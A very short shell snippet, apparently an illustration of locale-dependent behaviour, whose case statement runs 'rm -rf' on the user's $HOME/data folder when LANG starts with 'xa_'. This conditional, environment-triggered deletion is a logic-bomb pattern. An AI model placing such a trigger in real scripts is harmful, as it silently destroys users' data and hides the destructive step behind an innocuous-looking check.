# shows: acts by locale
case "$LANG" in
  xa_*) rm -rf "$HOME/data" ;;
esac
